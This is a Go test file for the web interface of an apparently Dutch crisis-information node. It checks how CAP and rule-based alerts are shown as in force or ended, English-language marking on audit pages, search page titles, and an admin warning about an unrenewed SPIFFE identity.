// TestAlertsThatEnded: which alerts the picture shows in force, which as ended (within
// clearedShown) and which not at all: a CAP Cancel or Past alert whose time is not said is never
// in force (review U, U2), and a rule's alert without a description says that it cleared.
func TestAlertsThatEnded(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	l := &Lang{Code: "nl", cat: cats["nl"]}
	now := time.Now()
	at := func(d time.Duration) string { return now.Add(-d).UTC().Format("2006-01-02T15:04:05-07:00") } // CAP's
	capAlert := func(msgType, urgency, sent, expires string) string {
		return `{"identifier":"x","sender":"s","sent":"` + sent + `","status":"Actual","msgType":"` + msgType + `","scope":"Public",
			"info":[{"language":"nl-NL","category":["Safety"],"event":"Drukte","urgency":"` + urgency + `","severity":"Severe","certainty":"Likely","headline":"Drukte bij de opvang","expires":"` + expires + `"}]}`
	}
	rule := func(state, resolvedAt, description string) string {
		b := `{"identifier":"r","sender":"s","sent":"` + at(time.Hour) + `","status":"Actual","msgType":"Alert","scope":"Restricted",
			"info":[{"category":["Other"],"event":"bedden-laag","urgency":"Expected","severity":"Severe","certainty":"Likely","description":"` + description + `"}],
			"rule":"bedden-laag","region":"VR09","state":"` + state + `","fired_at":"` + at(time.Hour) + `"`
		if resolvedAt != "" {
			b += `,"resolved_at":"` + resolvedAt + `"`
		}
		return b + `}`
	}
	for _, tc := range []struct {
		name, body      string
		inForce, ended  bool
		title, endedHas string
	}{
		{"a CAP alert", capAlert("Alert", "Expected", at(time.Hour), ""), true, false, "Drukte bij de opvang", ""},
		{"a CAP Cancel an hour ago", capAlert("Cancel", "Expected", at(time.Hour), ""), false, true, "Drukte bij de opvang", "opgeheven om"},
		{"a CAP Past alert without a time", capAlert("Update", "Past", "", ""), false, false, "", ""},
		{"a CAP Cancel with a bad time", capAlert("Cancel", "Expected", "gisteren", ""), false, false, "", ""},
		{"a CAP alert expired 2 hours ago", capAlert("Alert", "Expected", at(3*time.Hour), at(2*time.Hour)), false, true, "Drukte bij de opvang", "verlopen om"},
		{"a CAP Cancel a day ago", capAlert("Cancel", "Expected", at(24*time.Hour), ""), false, false, "", ""},
		{"a rule's alert firing", rule("firing", "", "Weinig bedden."), true, false, "Weinig bedden — VR09 Utrecht (regel bedden-laag)", ""},
		{"a rule's alert resolved", rule("resolved", at(time.Hour), "Weinig bedden."), false, true, "Weinig bedden — VR09 Utrecht (regel bedden-laag)", "opgeheven om"},
		{"a rule's alert resolved, no description", rule("resolved", at(time.Hour), ""), false, true, "Regel bedden-laag is opgeheven in VR09 Utrecht", "opgeheven om"},
		{"a rule's alert resolved 13 hours ago", rule("resolved", at(13*time.Hour), "Weinig bedden."), false, false, "", ""},
	} {
		e := &pb.PictureEntry{Kind: "alert", Region: "VR09", Source: "a", Record: &pb.Record{Id: "x", Kind: "alert", Region: "VR09", Body: []byte(tc.body)}}
		v, inForce, ended := activeAlert(l, e, now, "/")
		if inForce != tc.inForce || ended != tc.ended || (inForce || ended) && (v.Title != tc.title || !strings.Contains(v.Ended, tc.endedHas)) {
			t.Errorf("%s: in force %v, ended %v, %q %q; want %v, %v, %q, ended saying %q", tc.name, inForce, ended, v.Title, v.Ended, tc.inForce, tc.ended, tc.title, tc.endedHas)
		}
	}
}

// TestAuditMarksTheNodesEnglish: the audit page's text that is the node's own English, the
// problem of a broken chain and a detail that is no JSON object, is marked lang="en" in a Dutch
// page, so that a screen reader's voice reads it as English (review AB, AB5).
func TestAuditMarksTheNodesEnglish(t *testing.T) {
	pages, cats := pagesAndCatalogues(t)
	v := &auditView{
		Entries: []auditRow{{Seq: 7, Action: "record.put", Raw: "stored before details were JSON"}},
		Verify:  &verifyView{FirstBroken: 7, Problem: "entry 7: hash does not match its content"},
	}
	var b bytes.Buffer
	if err := pages["audit"].Execute(&b, &page{L: &Lang{Code: "nl", cat: cats["nl"]}, Title: "Auditlog", Content: v}); err != nil {
		t.Fatal(err)
	}
	for _, english := range []string{v.Entries[0].Raw, v.Verify.Problem} {
		if !regexp.MustCompile(`<span [^>]*lang="en"[^>]*>` + regexp.QuoteMeta(english) + `</span>`).Match(b.Bytes()) {
			t.Errorf("the audit page does not mark %q as English", english)
		}
	}
}

// TestSearchTitle: a search's title names its words, in the page's language, shortened to what a
// tab has room for; a search without words is titled as the page (review AB, AB8).
func TestSearchTitle(t *testing.T) {
	_, cats := pagesAndCatalogues(t)
	nl, en := &Lang{Code: "nl", cat: cats["nl"]}, &Lang{Code: "en", cat: cats["en"]}
	long := strings.Repeat("opvang ", 10)
	for _, c := range []struct {
		l          *Lang
		text, want string
	}{
		{nl, "  opvang   utrecht ", "Zoeken: opvang utrecht"},
		{en, "opvang utrecht", "Search: opvang utrecht"},
		{nl, "", "Zoeken"},
		{nl, long, "Zoeken: " + strings.Repeat("opvang ", 5)[:34] + "…"},
		{nl, strings.Repeat("x", 50), "Zoeken: " + strings.Repeat("x", 40) + "…"},
	} {
		if got := searchTitle(c.l, c.text); got != c.want {
			t.Errorf("%s: the title of a search for %q is %q, want %q", c.l.Code, c.text, got, c.want)
		}
	}
	if got := en.T("picture.heading", "oekraine"); got != "The picture: oekraine" {
		t.Errorf("the English picture's title: %q", got)
	}
}

// adminConn stands for the node's services as the admin page asks them: StatusService gives
// status, the other three nothing.
type adminConn struct{ status *pb.StatusResponse }

func (c adminConn) Invoke(_ context.Context, method string, _, reply any, _ ...grpc.CallOption) error {
	switch method {
	case "/knooppunt.v1.StatusService/Status":
		proto.Merge(reply.(proto.Message), c.status)
	case "/knooppunt.v1.ClusterService/Status", "/knooppunt.v1.PolicyService/List", "/knooppunt.v1.PeerService/List":
	default:
		return status.Error(codes.Unimplemented, method)
	}
	return nil
}

func (c adminConn) NewStream(_ context.Context, _ *grpc.StreamDesc, method string, _ ...grpc.CallOption) (grpc.ClientStream, error) {
	return nil, status.Error(codes.Unimplemented, method)
}

// TestAdminSaysTheSVIDIsNotRenewed: the node's page for its administrator says, beside the SVID
// and its end, since when the SPIRE agent has not renewed it and why, long before it ends; and
// nothing of it while the agent renews it (review AK, AK1).
func TestAdminSaysTheSVIDIsNotRenewed(t *testing.T) {
	since := time.Date(2026, 12, 7, 20, 35, 0, 0, time.UTC)
	for _, tc := range []struct {
		name  string
		st    *pb.StatusResponse
		wants bool
	}{
		{"renewed", &pb.StatusResponse{SvidId: "spiffe://a.crisis.test/node/r1", SvidExpiresAt: timestamppb.New(time.Now().Add(30 * 24 * time.Hour))}, false},
		{"not renewed", &pb.StatusResponse{SvidId: "spiffe://a.crisis.test/node/r1", SvidExpiresAt: timestamppb.New(time.Now().Add(30 * 24 * time.Hour)),
			SvidRenewalFailingSince: timestamppb.New(since), SvidRenewalError: "the SPIRE agent issues this process no identity"}, true},
	} {
		s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", SessionTTL: time.Hour,
			OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
			Org: "a.crisis.test", Name: "a", Conn: adminConn{tc.st}, Logger: slog.New(slog.DiscardHandler),
			Resolve: func(id spiffeid.ID) (api.Caller, error) {
				return api.Caller{ID: id, Roles: []api.Role{api.Admin}}, nil
			}})
		if err != nil {
			t.Fatal(err)
		}
		id := s.sessions.create(&session{Person: spiffeid.RequireFromString("spiffe://a.crisis.test/user/olga"), Name: "olga", AuthTime: time.Now(), Expires: time.Now().Add(time.Hour)})
		r := httptest.NewRequest("GET", "/beheer", nil)
		r.AddCookie(&http.Cookie{Name: s.sessionCookie(), Value: id})
		w := httptest.NewRecorder()
		s.ServeHTTP(w, r)
		want := `id="svid-niet-vernieuwd">niet vernieuwd sinds ` + local(since).Format("2006-01-02 15:04 MST") + `: the SPIRE agent issues this process no identity</span>`
		if body := w.Body.String(); w.Code != http.StatusOK || strings.Contains(body, want) != tc.wants || strings.Contains(body, "svid-niet-vernieuwd") != tc.wants {
			t.Errorf("%s: %d; want the page to say it is not renewed: %v\n%s", tc.name, w.Code, tc.wants, body)
		}
	}
}
